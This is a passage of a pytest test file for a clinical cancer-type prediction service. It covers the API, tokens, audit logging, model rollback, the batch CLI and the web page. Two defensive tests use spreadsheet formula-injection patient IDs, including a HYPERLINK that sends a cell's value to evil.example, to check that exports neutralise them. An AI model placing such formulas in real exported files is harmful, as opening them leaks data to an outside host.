"""The site's prediction service (client/serve.py) and batch predictions, on a model trained so that one
feature decides the class: predictions, explanations, validation errors, tokens and roles, audit,
hot reload, rollback, the web page in headless Chromium (when installed)."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import types
from contextlib import contextmanager

import numpy as np
import pandas as pd
import pytest
import torch

from client.model_store import ModelStore
from client.serve import TOKENS_FILE, TokenStore, create_app
from privacy.audit import verify
from privacy.site_config import SiteConfig
from shared_models.model import MultiModalTransformer
from shared_models.run_config import ModelConfig
from shared_models.site_data import Normalizer
from shared_models.weights import state_arrays
from tests.factories import random_inputs, tiny_schema

N = 600


def _labels(x: torch.Tensor) -> torch.Tensor:
    g0 = x[:, 0]  # expr.g0 decides the class
    return (g0 > -0.45).long() + (g0 > 0.45).long()


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    from shared_models.training import TrainConfig, fit

    root = tmp_path_factory.mktemp("serve")
    schema = tiny_schema(omics_width=30)
    torch.manual_seed(0)
    x = random_inputs(schema, N, seed=1)
    y = _labels(x)
    cfg = ModelConfig(d_model=32)
    model = MultiModalTransformer(schema, cfg)
    fit(model, x, y, TrainConfig(epochs=25, batch_size=64, lr=3e-3))
    store = ModelStore(root / "models")
    for run in ("run-a", "run-b"):  # two versions: v0002 active, v0001 to roll back to
        store.install(schema, cfg, state_arrays(model), {"run": run, "round": 3, "metrics": {"macro_f1": 0.9},
                                                         "site_epsilon": {"C0": 7.9}})
    (root / "state").mkdir()
    Normalizer(schema, np.zeros(schema.layout().n_inputs), np.ones(schema.layout().n_inputs)).save(
        root / "state" / "normalizer.json")
    # the same patients as site tables (raw values; the normaliser above is the identity)
    layout, ids = schema.layout(), [f"P{i:03d}" for i in range(N)]
    data = root / "data"
    data.mkdir()
    for m in schema.modalities:
        block = x[:, layout.slices[m.name]].numpy()
        df = pd.DataFrame(block, columns=m.features)
        if "stage" in m.features:
            df["stage"] = [m.levels["stage"][int(v)] for v in df["stage"]]
        df.insert(0, schema.id_column, ids)
        df.to_csv(data / f"{m.name}.csv", index=False)
    settings = SiteConfig(model_dir=str(root / "models"), state_dir=str(root / "state"), simulated=True)
    settings.write(root / "site.json")
    tokens = TokenStore(root / "state" / TOKENS_FILE)
    return {"root": root, "schema": schema, "x": x, "y": y, "settings": settings, "data": data,
            "clinician": tokens.add("dr", "clinician"), "admin": tokens.add("it", "admin")}


def _serving(site, serve: dict) -> SiteConfig:
    """The test site's settings with a `serve` object, checked as site.json is."""
    return SiteConfig.parse({**site["settings"].model_dump(by_alias=True, exclude_unset=True), "serve": serve})


@pytest.fixture(scope="module")
def client(site):
    from fastapi.testclient import TestClient

    return TestClient(create_app(site["settings"]))


def _patient(site, i: int, drop: tuple[str, ...] = ()) -> dict:
    schema, x = site["schema"], site["x"]
    layout = schema.layout()
    mods = {}
    for m in schema.modalities:
        if m.name in drop:
            continue
        vals = x[i, layout.slices[m.name]].tolist()
        feats = dict(zip(m.features, vals))
        if "stage" in feats:
            feats["stage"] = m.levels["stage"][int(feats["stage"])]
        mods[m.name] = feats
    return {"id": f"P{i:03d}", "modalities": mods}


def _auth(token):
    return {"Authorization": f"Bearer {token}"}


def test_predicts_with_probabilities_contributions_and_top_features(site, client):
    r = client.post("/v1/predict", json={"patients": [_patient(site, i) for i in range(40)], "top_k": 3},
                    headers=_auth(site["clinician"]))
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["model_version"] == "v0002"
    preds = body["predictions"]
    acc = np.mean([p["predicted"] == site["schema"].classes[int(site["y"][i])] for i, p in enumerate(preds)])
    assert acc >= 0.8
    p0 = preds[0]
    assert abs(sum(p0["probabilities"].values()) - 1) < 1e-4
    assert abs(sum(p0["modality_contributions"].values()) - 1) < 1e-4
    # integrated gradients from the site mean (0): for patients far from it along g0, g0 ranks first
    far = [p["top_features"][0]["feature"] for i, p in enumerate(preds) if abs(float(site["x"][i, 0])) > 0.8]
    assert len(far) >= 10 and far.count("g0") >= 0.9 * len(far)


def test_deciding_feature_outranks_a_permuted_one(site):
    from client.predict import Predictor

    pred = Predictor(site["root"] / "models", site["root"] / "state" / "normalizer.json")
    raw = site["x"][:200].numpy().copy()
    _, res = pred.predict(raw, top_k=5)
    mean_abs = np.abs(res["attributions"]).mean(0)
    rng = np.random.default_rng(0)
    raw_perm = raw.copy()
    raw_perm[:, 0] = rng.permutation(raw_perm[:, 0])  # g0 no longer matches the label
    _, res_perm = pred.predict(raw_perm)
    acc = (res["predicted"] == site["y"][:200].numpy()).mean()
    acc_perm = (res_perm["predicted"] == site["y"][:200].numpy()).mean()
    assert mean_abs[0] > 3 * np.sort(mean_abs)[-2] and acc - acc_perm > 0.3


def test_missing_modalities_are_fine(site, client):
    r = client.post("/v1/predict", json={"patients": [_patient(site, 1, drop=("prot", "clinical", "mutation"))],
                                         "top_k": 0}, headers=_auth(site["clinician"]))
    assert r.status_code == 200
    p = r.json()["predictions"][0]
    assert p["modalities_present"] == ["expr"] and list(p["modality_contributions"]) == ["expr"]


def test_bad_payloads_name_modality_feature_and_problem(site, client):
    bad = _patient(site, 2)
    bad["modalities"]["expr"]["nope"] = 1.0
    bad["modalities"]["expr"]["g1"] = "high"
    bad["modalities"]["clinical"]["stage"] = "IV"
    bad["modalities"]["genome"] = {"x": 1}
    bad["modalities"]["prot"]["p0"] = 1e39  # beyond float32
    r = client.post("/v1/predict", json={"patients": [bad]}, headers=_auth(site["clinician"]))
    assert r.status_code == 422
    text = json.dumps(r.json())
    for needle in ("genome", "unknown modality", "'IV'", "not a level", "column 'g1'", "'high'",
                   "column 'p0'", "beyond float32", "row P002"):
        assert needle in text, needle
    typo = _patient(site, 2)
    typo["modalities"]["expr"]["nope"] = 1.0  # not a feature: scored without it, and the answer says so
    r = client.post("/v1/predict", json={"patients": [typo]}, headers=_auth(site["clinician"]))
    assert r.status_code == 200 and "'nope'" in r.json()["warnings"][0]["msg"]
    too_many = {"patients": [_patient(site, 0)] * 1001}
    assert client.post("/v1/predict", json=too_many, headers=_auth(site["clinician"])).status_code == 413
    huge = client.post("/v1/predict", content=b"{}", headers={**_auth(site["clinician"]),
                                                             "Content-Length": str(60 * 1024 * 1024)})
    assert huge.status_code == 413


def test_a_chunked_body_over_the_limit_is_refused(site):
    from fastapi.testclient import TestClient

    small = TestClient(create_app(site["settings"], max_body_bytes=10_000))

    def chunks():
        for _ in range(100):
            yield b" " * 1000  # no Content-Length: sent chunked

    r = small.post("/v1/predict", content=chunks(), headers={**_auth(site["clinician"]),
                                                            "Content-Type": "application/json"})
    assert r.status_code == 413 and "exceeds 10000 bytes" in r.text
    ok = small.post("/v1/predict", json={"patients": [_patient(site, 0)], "top_k": 0}, headers=_auth(site["clinician"]))
    assert ok.status_code == 200


def test_tokens_and_roles(site, client):
    assert client.post("/v1/predict", json={"patients": [_patient(site, 0)]}).status_code == 401
    assert client.post("/v1/predict", json={"patients": [_patient(site, 0)]},
                       headers=_auth("ofd_guess")).status_code == 401
    assert client.get("/v1/models", headers=_auth(site["clinician"])).status_code == 403
    assert client.get("/v1/models", headers=_auth(site["admin"])).status_code == 200
    stored = (site["root"] / "state" / TOKENS_FILE).read_text()
    assert site["clinician"] not in stored and site["admin"] not in stored  # hashes only


def test_the_version_list_names_a_damaged_package_instead_of_failing(site, tmp_path):
    """An old version's package.json damaged: the admin still gets the list (a rollback needs it), that one marked."""
    from fastapi.testclient import TestClient

    settings = _copy_site(site, tmp_path)
    (tmp_path / "models" / "v0000").mkdir()
    (tmp_path / "models" / "v0000" / "package.json").write_text("{not json")
    with TestClient(create_app(settings)) as c:
        r = c.get("/v1/models", headers=_auth(site["admin"]))
    assert r.status_code == 200, r.text
    versions = {v["version"]: v for v in r.json()["versions"]}
    assert "package.json" in versions["v0000"]["unreadable"] and versions[r.json()["active"]]["run"]


def test_predictions_are_audited_without_features(site, client):
    client.post("/v1/predict", json={"patients": [_patient(site, 7)]}, headers=_auth(site["clinician"]))
    log = site["root"] / "state" / "audit.jsonl"
    last = json.loads(log.read_text().splitlines()[-1])
    assert last["event"] == "prediction" and last["model_version"] == "v0002" and last["token"] == "dr"
    assert "P007" not in log.read_text() and len(last["patient_sha"][0]) == 32
    assert str(round(float(site["x"][7, 0]), 4))[:6] not in json.dumps(last)
    assert verify(log).ok


def test_model_info_rollback_and_hot_reload(site, client):
    info = client.get("/v1/model", headers=_auth(site["clinician"])).json()
    assert info["version"] == "v0002" and info["run"] == "run-b" and info["site_epsilon"] == {"C0": 7.9}
    assert info["signature"] == "unsigned"
    r = client.post("/v1/models/activate", json={"rollback": True}, headers=_auth(site["admin"]))
    assert r.status_code == 200 and r.json()["active"] == "v0001"
    assert client.get("/v1/model", headers=_auth(site["clinician"])).json()["run"] == "run-a"
    ModelStore(site["root"] / "models").activate("v0002")  # e.g. a newly delivered model: no restart
    assert client.get("/v1/model", headers=_auth(site["clinician"])).json()["version"] == "v0002"
    assert client.post("/v1/models/activate", json={"version": "v0009"}, headers=_auth(site["admin"])).status_code == 404
    # a request that says two things, or a misspelt field, is refused, not half-followed (the rollback won, silently)
    for body in ({"version": "v0002", "rollback": True}, {}, {"version": "v0001", "rollbak": True}):
        r = client.post("/v1/models/activate", json=body, headers=_auth(site["admin"]))
        assert r.status_code == 422, (body, r.text)
    assert client.get("/v1/model", headers=_auth(site["clinician"])).json()["version"] == "v0002"


def test_a_new_version_loads_off_the_event_loop_while_the_current_one_answers(site, tmp_path, monkeypatch):
    """Loading a newly activated version (~0.3 s of CPU: verify, read, trace) ran on the event loop, inside the first
    request to see it: /health and every request waited for it while a model was installed. It loads in a thread,
    and the current version answers until the new one is ready."""
    import threading
    import time

    from fastapi.testclient import TestClient

    from client.predict import Predictor

    _copy_site(site, tmp_path)
    c = TestClient(create_app(SiteConfig.load(tmp_path / "site.json")))
    assert c.get("/health").json()["model_version"] == "v0002"
    release, load = threading.Event(), Predictor._load

    def slow(self, version):  # the new version's load, held until the service has answered meanwhile
        release.wait(20)
        return load(self, version)

    monkeypatch.setattr(Predictor, "_load", slow)
    ModelStore(tmp_path / "models").activate("v0001")  # e.g. a delivery installed by the site's training process
    t0 = time.perf_counter()
    health = c.get("/health").json()
    r = c.post("/v1/predict", json={"patients": [_patient(site, 0)], "top_k": 0}, headers=_auth(site["clinician"]))
    assert time.perf_counter() - t0 < 10 and health["model_version"] == "v0002", health
    assert r.status_code == 200 and r.json()["model_version"] == "v0002"
    release.set()
    _health_once(c, lambda h: h["model_version"] == "v0001")  # served once loaded
    r = c.post("/v1/predict", json={"patients": [_patient(site, 0)], "top_k": 0}, headers=_auth(site["clinician"]))
    assert r.json()["model_version"] == "v0001"


def _deliver(site, model_dir, run: str) -> str:
    """A new model installed in `model_dir` as a delivery installs it (the test site's weights, another run)."""
    from shared_models.weights import load_weights

    model = load_weights(site["root"] / "models" / "v0002" / "weights.pt", site["schema"])
    return ModelStore(model_dir).install(site["schema"], ModelConfig(d_model=32), state_arrays(model),
                                         {"run": run, "round": 3, "metrics": {"macro_f1": 0.9}})


def test_a_delivered_model_is_served_within_two_seconds_without_waiting_for_a_request(site, tmp_path):
    """A delivered model was loaded only when a request came, and that request (and /health) was still answered by
    the old one: a reviewer's v0002, installed at 19:16:19, was not served at 19:17:06. The service watches the
    store itself: the new version serves within the 2 s docs/hospital-guide.md promises, with no request meanwhile,
    and the first request after it gets it."""
    import time

    from fastapi.testclient import TestClient

    _copy_site(site, tmp_path)
    app = create_app(SiteConfig.load(tmp_path / "site.json"))
    with TestClient(app) as c:  # (as a context: the service's lifespan, its background tasks, runs)
        assert c.get("/health").json()["model_version"] == "v0002"
        version = _deliver(site, tmp_path / "models", "run-c")
        t0 = time.monotonic()
        while app.state.predictor.current.version != version and time.monotonic() - t0 < 10:
            time.sleep(0.02)  # no request: only the service's own watch can load it
        delay = time.monotonic() - t0
        assert app.state.predictor.current.version == version == "v0003" and delay < 2.0, delay
        assert c.get("/health").json() == {"status": "ok", "model_version": "v0003"}
        r = c.post("/v1/predict", json={"patients": [_patient(site, 0)], "top_k": 0}, headers=_auth(site["clinician"]))
        assert r.status_code == 200 and r.json()["model_version"] == "v0003"


def test_a_site_without_a_model_serves_waiting_and_starts_predicting_once_one_is_installed(site, tmp_path):
    """`oncofed serve` on a site before its first delivery exited at once ("no model installed yet"): a systemd unit
    crash-looped until the first run ended. It starts, /health and predictions answer 503 saying it waits for the
    first model, and the model delivered later is served without a restart. `oncofed predict` still refuses."""
    import time

    import httpx

    _copy_site(site, tmp_path)
    shutil.rmtree(tmp_path / "models")
    patients = {"patients": [_patient(site, 0)], "top_k": 0}
    with _serving_process(tmp_path / "site.json", ready=lambda r: True) as served:
        r = httpx.get(f"{served['url']}/health")
        assert r.status_code == 503 and r.json() == {"status": "waiting for the first model", "model_version": None}
        r = httpx.post(f"{served['url']}/v1/predict", json=patients, headers=_auth(site["clinician"]))
        assert r.status_code == 503 and r.json()["detail"].startswith("waiting for the first model"), r.text
        assert "no model installed yet" in r.json()["detail"] and r.headers["retry-after"]
        _deliver(site, tmp_path / "models", "run-a")
        t0 = time.monotonic()
        while (r := httpx.get(f"{served['url']}/health")).status_code != 200:
            assert time.monotonic() - t0 < 10, r.text
            time.sleep(0.1)
        assert r.json() == {"status": "ok", "model_version": "v0001"}
        r = httpx.post(f"{served['url']}/v1/predict", json=patients, headers=_auth(site["clinician"]))
        assert r.status_code == 200 and r.json()["model_version"] == "v0001"
        assert served["process"].poll() is None
    shutil.rmtree(tmp_path / "models")
    r = subprocess.run([sys.executable, "-m", "oncofed", "predict", "--site-config", str(tmp_path / "site.json"),
                        "--data", str(site["data"]), "--out", str(tmp_path / "out.csv")], capture_output=True, text=True)
    assert r.returncode == 2 and "no model installed yet" in r.stderr, r.stderr


def test_a_rollback_sent_as_curl_sends_it_is_followed_and_a_bad_body_names_the_fix(site, client):
    """`curl -d '{"rollback": true}'` sends the JSON form-encoded (as the guide's /v1/predict example does): it was
    refused with FastAPI's "Input should be a valid dictionary", naming neither the body's form nor the fix."""
    form = {"Content-Type": "application/x-www-form-urlencoded"}
    r = client.post("/v1/models/activate", content=b'{"rollback": true}', headers={**_auth(site["admin"]), **form})
    assert r.status_code == 200 and r.json() == {"active": "v0001", "previous": "v0002"}
    r = client.post("/v1/models/activate", content=b'{"version": "v0002"}', headers={**_auth(site["admin"]), **form})
    assert r.status_code == 200 and r.json()["active"] == "v0002"
    for body in (b"rollback=true", b"", b'{"version": "v0001", "rollback": true}'):
        r = client.post("/v1/models/activate", content=body, headers={**_auth(site["admin"]), **form})
        assert r.status_code == 422, r.text
        problem = r.json()["detail"][0]
        assert problem["code"] == "invalid_body" and '{"rollback": true}' in problem["fix"], problem
    assert client.get("/v1/model", headers=_auth(site["clinician"])).json()["version"] == "v0002"


def test_file_upload_health_and_metrics(site, client):
    files = [("files", (p.name, p.read_bytes(), "text/csv")) for p in sorted(site["data"].glob("*.csv"))]
    r = client.post("/v1/predict/file?top_k=0", files=files, headers=_auth(site["clinician"]))
    assert r.status_code == 200 and len(r.json()["predictions"]) == N
    for k in (51, -1):  # refused as in a JSON request, not clamped to 50 or 0
        r = client.post(f"/v1/predict/file?top_k={k}", files=files, headers=_auth(site["clinician"]))
        assert r.status_code == 422 and "bad_top_k" in r.text, r.text
    # a labels table bigger than serve.max-patients is ignored, not counted against it (a 413 before)
    big = "patient,subtype\n" + "".join(f"X{i},A\n" for i in range(100_001))
    r = client.post("/v1/predict/file?top_k=0", files=files + [("files", ("labels.csv", big.encode(), "text/csv"))],
                    headers=_auth(site["clinician"]))
    assert r.status_code == 200 and len(r.json()["predictions"]) == N, r.text[:300]
    assert client.get("/health").json()["status"] == "ok"
    text = client.get("/metrics", headers=_auth(site["admin"])).text
    assert "oncofed_serve_latency_seconds_bucket" in text and "oncofed_serve_predictions_total" in text


def test_batch_cli(site, tmp_path):
    out = tmp_path / "predictions.csv"
    r = subprocess.run([sys.executable, "-m", "oncofed", "predict", "--site-config", str(site["root"] / "site.json"),
                        "--data", str(site["data"]), "--out", str(out)], capture_output=True, text=True)
    assert r.returncode == 0, r.stderr
    df = pd.read_csv(out)
    assert len(df) == N and (df["predicted"] == [site["schema"].classes[int(v)] for v in site["y"]]).mean() >= 0.8

    # a table with a column the schema does not know: the request's warning is in every row of the file, not only
    # on the terminal
    data = tmp_path / "data"
    shutil.copytree(site["data"], data)
    expr = pd.read_csv(data / "expr.csv", dtype=str)
    expr["not_a_gene"] = "1"
    expr.to_csv(data / "expr.csv", index=False)
    r = subprocess.run([sys.executable, "-m", "oncofed", "predict", "--site-config", str(site["root"] / "site.json"),
                        "--data", str(data), "--out", str(out)], capture_output=True, text=True)
    assert r.returncode == 0, r.stderr
    assert pd.read_csv(out, keep_default_na=False)["warnings"].str.contains("extra_columns").all()


def test_the_batch_cli_keeps_a_cell_a_spreadsheet_would_run_as_a_formula_as_text(site, tmp_path):
    """A patient id `=HYPERLINK(...)` reached `oncofed predict --out` verbatim, a formula once the file is opened in a
    spreadsheet: a cell starting with = + - @ (or a tab, a carriage return) gets a leading single quote (OWASP)."""
    import csv

    from typer.testing import CliRunner

    from oncofed.cli import app

    data = tmp_path / "data"
    shutil.copytree(site["data"], data)
    renamed = {"P000": '=HYPERLINK("http://evil.example/?"&A2,"open")', "P001": "+SUM(1)", "P002": "@cmd", "P003": "-x"}
    for table in data.glob("*.csv"):
        df = pd.read_csv(table, dtype=str)
        df[site["schema"].id_column] = df[site["schema"].id_column].replace(renamed)
        df.to_csv(table, index=False)
    out = tmp_path / "p.csv"
    r = CliRunner().invoke(app, ["predict", "--site-config", str(site["root"] / "site.json"), "--data", str(data),
                                 "--out", str(out)])
    assert r.exit_code == 0, r.output
    with open(out, newline="") as fh:
        ids = [row[0] for row in csv.reader(fh)]
    assert set(ids) >= {"'" + v for v in renamed.values()} and "P004" in ids
    assert not any(i[:1] in "=+-@" for i in ids)


def test_the_batch_cli_writes_no_prediction_its_audit_log_did_not_record(site, tmp_path):
    # a review broke the audit log's last line: 20 rows reached the CSV, then a traceback, and no audit entry
    from typer.testing import CliRunner

    from oncofed.cli import app

    settings = _copy_site(site, tmp_path)  # noqa: F841 - the site's copy, with its own audit log
    log = tmp_path / "state" / "audit.jsonl"
    log.write_text(log.read_text() + '{"seq": "broken"\n' if log.exists() else '{"seq": "broken"\n')
    out = tmp_path / "p.csv"
    r = CliRunner().invoke(app, ["predict", "--site-config", str(tmp_path / "site.json"), "--data", str(site["data"]),
                                 "--out", str(out), "--batch-size", "20"])
    assert r.exit_code == 2 and "no predictions were written" in r.output, r.output
    assert not out.exists() and not list(tmp_path.glob(".p.csv.partial"))


def test_web_page_in_headless_chromium(site, live, tmp_path):
    """The page as a lab analyst sees it: notice and limits before upload, the token kept for the tab,
    full names, coverage per modality, warnings, feature meanings, the attention view labelled, CSV export."""
    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
    if chromium is None:
        pytest.skip("needs Debian's chromium (.ci/run installs it)")
    pytest.importorskip("playwright")
    from playwright.sync_api import sync_playwright

    upload = tmp_path / "upload"
    upload.mkdir()
    for f in site["data"].glob("*.csv"):
        df = pd.read_csv(f, dtype=str)
        if f.stem == "expr":
            df.loc[df["patient"] == "P000", "g5"] = "1000000"  # far outside the site's training values
        else:
            df = df[df["patient"] != "P001"]  # P001: expression only, 30 of 61 inputs
        df["patient"] = df["patient"].replace({"P599": "=HYPERLINK(\"http://evil.example\",\"P599\")"})
        df.to_csv(upload / f.name, index=False)
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=chromium, args=[
            "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update"])
        page = browser.new_page(accept_downloads=True)
        page.goto(f"{live['url']}/")
        page.wait_for_function("document.getElementById('limits').textContent.includes('at most')")
        notice, limits = page.inner_text("#research-notice"), page.inner_text("#limits")
        page.fill("#token", site["clinician"])
        page.dispatch_event("#token", "change")
        page.wait_for_function("document.getElementById('model').textContent.includes('v0002')")
        page.reload()  # the token is kept for this tab's session
        kept = page.input_value("#token")
        page.wait_for_function("document.getElementById('model').textContent.includes('v0002')")
        page.set_input_files("#files", [str(f) for f in sorted(upload.glob("*.csv"))])
        page.click("#go")
        page.wait_for_selector("tr.prediction", timeout=120000)
        rows = page.locator("tr.prediction td.predicted").all_inner_texts()
        first = page.locator("tr.prediction").nth(0)
        p000 = {"warnings": first.locator("td.warnings").inner_text(), "coverage": first.locator("td.coverage").inner_text(),
                "features": first.locator("td.features").inner_text()}
        p001_warnings = page.locator("tr.prediction").nth(1).locator("td.warnings [data-code]").evaluate_all(
            "els => els.map(e => e.dataset.code)")
        attention = first.locator("details summary").inner_text()
        quality, meaning = page.inner_text("#quality"), page.inner_text("#meaning")
        page.screenshot(path=str(site["root"] / "web-page.png"), full_page=False)
        with page.expect_download() as download:
            page.click("#export")
        exported = pd.read_csv(download.value.path())
        browser.close()
    assert "research use only" in notice.lower() and "at most 1000 patients" in limits
    assert kept == site["clinician"]
    assert len(rows) == N and set(rows) <= set(site["schema"].classes)  # no full names known for A, B, C
    assert "SD from the site's training mean" in p000["warnings"] and "expr.g5" in p000["warnings"]
    assert "expr 100%" in p000["coverage"] and "pushed the prediction" in p000["features"]
    assert "low_coverage" in p001_warnings and attention == "attention weights of the fusion layer"
    assert len(exported) == N and list(exported.columns[:4]) == ["patient", "predicted", "cancer type", "probability"]
    # a cell a spreadsheet would run as a formula is exported as text (OWASP: a leading single quote)
    assert "'=HYPERLINK(\"http://evil.example\",\"P599\")" in set(exported["patient"])
    assert "Held-out quality from the model package" in quality and "0.9" in quality  # the package's macro-F1
    assert meaning.startswith("What a probability means") and "calibrated" in meaning
    assert (site["root"] / "web-page.png").stat().st_size > 10_000


def test_the_web_page_says_when_the_packages_pattern_measurement_judges_the_answers(site, tmp_path):
    """Not calibrated at the site, a model package with the consortium's per-pattern measurement: the page says so."""
    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
    if chromium is None:
        pytest.skip("needs Debian's chromium (.ci/run installs it)")
    pytest.importorskip("playwright")
    from playwright.sync_api import sync_playwright

    _copy_site(site, tmp_path)
    model = MultiModalTransformer(site["schema"], ModelConfig(d_model=32))
    patterns = {k: {"modalities": k.split("+"), "n_heldout": 90, "accuracy": a, "sites": 3}
                for k, a in (("expr", 0.91), ("prot", 0.12), ("expr+prot", 0.93))}
    version = ModelStore(tmp_path / "models").install(site["schema"], ModelConfig(d_model=32), state_arrays(model), {
        "run": "run-c", "round": 3, "metrics": {}, "patterns": patterns})
    with _serving_process(tmp_path / "site.json") as served, sync_playwright() as p:
        browser = p.chromium.launch(executable_path=chromium, args=[
            "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update"])
        page = browser.new_page()
        page.goto(f"{served['url']}/")
        page.fill("#token", site["clinician"])
        page.dispatch_event("#token", "change")
        page.wait_for_function(f"document.getElementById('model').textContent.includes('{version}')")
        quality = page.inner_text("#quality")
        browser.close()
    assert "Not calibrated at this site" in quality
    assert ("measured 3 modality patterns on the consortium's held-out patients, 1 of them weak: answers from them "
            "are flagged") in quality, quality


def test_the_pan_cancer_classes_have_full_names():
    from client.class_names import names_for
    from shared_models.schema import FeatureSchema
    from simulations.federation import ROOT

    names = names_for(FeatureSchema.load(ROOT / "simulations" / "schemas" / "tcga_pancan33.json"))
    assert len(names) == 33 and all(name != code for code, name in names.items())
    assert names["GBM"] == "Glioblastoma multiforme"


def test_a_hospital_that_never_trained_fits_its_normalizer_and_serves(site, tmp_path):
    """No normalizer.json in its state: the service refuses to start naming the fix; after
    `oncofed serve fit-normalizer` on its own unlabelled tables it serves the same model."""
    from client.model_store import ModelStoreError

    new_state = tmp_path / "state"
    new_state.mkdir()
    settings = SiteConfig(model_dir=str(site["root"] / "models"), state_dir=str(new_state), simulated=True)
    settings.write(tmp_path / "site.json")
    with pytest.raises(ModelStoreError, match="fit-normalizer"):
        create_app(settings)
    fit = [sys.executable, "-m", "oncofed", "serve", "fit-normalizer", "--site-config", str(tmp_path / "site.json"),
           "--data", str(site["data"])]
    r = subprocess.run(fit, capture_output=True, text=True)  # no labels: the case mix cannot be checked
    assert r.returncode == 2 and "no labels table" in r.stderr and "--unlabelled" in r.stderr, r.stderr
    r = subprocess.run([*fit, "--unlabelled"], capture_output=True, text=True)
    assert r.returncode == 0, r.stderr
    assert f"fitted on {N} patients" in r.stdout
    from fastapi.testclient import TestClient

    token = TokenStore(new_state / TOKENS_FILE).add("dr", "clinician")
    resp = TestClient(create_app(settings)).post("/v1/predict", json={"patients": [_patient(site, 3)]},
                                                 headers=_auth(token))
    assert resp.status_code == 200 and resp.json()["model_version"] == "v0002"


def test_fit_normalizer_refuses_tables_it_cannot_fit_honestly_and_keeps_the_one_before(site, tmp_path):
    """Foreign tables, too few patients, duplicate ids: refused with the contract's problems, nothing written.
    A feature too few patients have keeps the normalisation fitted before, and the note says which modality."""
    from client.prediction_input import PredictionInputError
    from client.serve import fit_normalizer
    from client.site import MIN_NORMALISATION_PATIENTS
    from shared_models.site_data import Normalizer

    shutil.copytree(site["root"] / "state", tmp_path / "state")
    settings = SiteConfig(model_dir=str(site["root"] / "models"), state_dir=str(tmp_path / "state"),
                          simulated=True)
    saved = tmp_path / "state" / "normalizer.json"
    before = saved.read_bytes()

    def tables(name: str, edit):
        d = tmp_path / name
        d.mkdir()
        for f in site["data"].glob("*.csv"):
            df = pd.read_csv(f, dtype=str)
            edit(f.stem, df).to_csv(d / f.name, index=False)
        return d

    foreign = tables("foreign", lambda m, df: df.rename(columns={c: f"{c}_v2" for c in df.columns[1:]}))
    few = tables("few", lambda m, df: df.head(MIN_NORMALISATION_PATIENTS - 1))
    twice = tables("twice", lambda m, df: pd.concat([df, df]))
    for d, code in ((foreign, "no_schema_features"), (few, "too_few_patients"), (twice, "duplicate_ids")):
        with pytest.raises(PredictionInputError) as e:
            fit_normalizer(settings, d)
        assert code in {p.get("code") for p in e.value.problems}, (code, e.value.problems)
        assert saved.read_bytes() == before

    def thin_expr(m, df):  # only a few patients have an expression table
        return df.head(MIN_NORMALISATION_PATIENTS - 5) if m == "expr" else df
    path, n, notes = fit_normalizer(settings, tables("thin", thin_expr), unlabelled=True)
    schema = site["schema"]
    fitted, old = Normalizer.load(path, schema), Normalizer.load(site["root"] / "state" / "normalizer.json", schema)
    expr = schema.layout().slices["expr"]
    assert n == N and np.array_equal(fitted.mean[expr], old.mean[expr]) and len(notes) == 2
    assert notes[0].startswith("expr: ") and "keep the normalisation fitted before" in notes[0]
    assert "not checked (--unlabelled)" in notes[1]


def test_fit_normalizer_refuses_a_cohort_the_model_cannot_tell_apart_once_normalised_on_itself(site, tmp_path):
    """A hospital that never trained normalises on its own patients. The model reads each feature against the mix of
    types a training site sees, so a cohort of one type, centred on itself, loses what tells the types apart
    (benchmarks/new_site_case_mix.py: 6% accuracy on the main job's model). With the patients' labels the model is
    scored with the new normalisation and the fit refused when it answers far worse than its package reports;
    without labels, only with --unlabelled. Nothing is written when refused."""
    from client.prediction_input import PredictionInputError
    from client.serve import fit_normalizer
    from shared_models.weights import load_weights

    schema = site["schema"]
    model = load_weights(site["root"] / "models" / "v0002" / "weights.pt", schema).eval()
    with torch.inference_mode():
        accuracy = float((model(site["x"]).argmax(1) == site["y"]).float().mean())  # its own normalisation: identity
    ModelStore(tmp_path / "models").install(schema, ModelConfig(d_model=32), state_arrays(model),
                                            {"run": "run-c", "round": 3, "metrics": {"accuracy": accuracy},
                                             "site_epsilon": {"C0": 7.9}})
    (tmp_path / "state").mkdir()
    settings = SiteConfig(model_dir=str(tmp_path / "models"), state_dir=str(tmp_path / "state"))
    ids = [f"P{i:03d}" for i in range(N)]
    labels = pd.Series(np.array(schema.classes)[site["y"].numpy()], index=ids)

    def cohort(name: str, classes: list[str]):
        d, keep = tmp_path / name, set(labels.index[labels.isin(classes)])
        d.mkdir()
        for f in site["data"].glob("*.csv"):
            df = pd.read_csv(f, dtype=str)
            df[df[schema.id_column].isin(keep)].to_csv(d / f.name, index=False)
        pd.DataFrame({schema.id_column: sorted(keep), schema.label_column: labels[sorted(keep)]}).to_csv(
            d / "labels.csv", index=False)
        return d

    saved = tmp_path / "state" / "normalizer.json"
    with pytest.raises(PredictionInputError) as e:
        fit_normalizer(settings, cohort("one-type", ["C"]))
    problem = e.value.problems[0]
    assert problem["code"] == "case_mix" and "1 type(s), the largest C 100%" in problem["msg"], problem
    assert not saved.exists()
    path, n, notes = fit_normalizer(settings, cohort("every-type", list(schema.classes)))
    assert path == saved and n == N and notes[-1].startswith("case mix: 3 type(s)"), notes


# --- issue 20: refuse rather than guess --------------------------------------------------------------
def _post(client, site, patients, **extra):
    return client.post("/v1/predict", json={"patients": patients, "top_k": 0, **extra}, headers=_auth(site["clinician"]))


def _codes(r) -> set[str]:
    return {p["code"] for p in r.json()["detail"]}


def _upload(client, site, files: dict[str, bytes], top_k: int = 0):
    return client.post(f"/v1/predict/file?top_k={top_k}", headers=_auth(site["clinician"]),
                       files=[("files", (name, data, "text/csv")) for name, data in files.items()])


def test_an_upload_without_files_is_refused_with_how_to_send_them(site, client):
    r = client.post("/v1/predict/file", headers=_auth(site["clinician"]))
    assert r.status_code == 422 and _codes(r) == {"no_files"} and "-F files=@" in r.json()["detail"][0]["fix"]


def test_an_upload_of_only_misnamed_tables_is_refused_with_each_files_fix(site, client):
    r = _upload(client, site, {"EXPR.csv": _csv(site, "expr", [0, 1])})
    assert r.status_code == 422 and _codes(r) == {"no_modality"}, r.text
    assert r.json()["detail"][0]["fix"] == "EXPR.csv: names are matched in lower case: rename it expr.csv"

def _csv(site, modality: str, rows: list[int], edit=None) -> bytes:
    df = pd.read_csv(site["data"] / f"{modality}.csv", dtype=str).iloc[rows]
    if edit:
        edit(df)
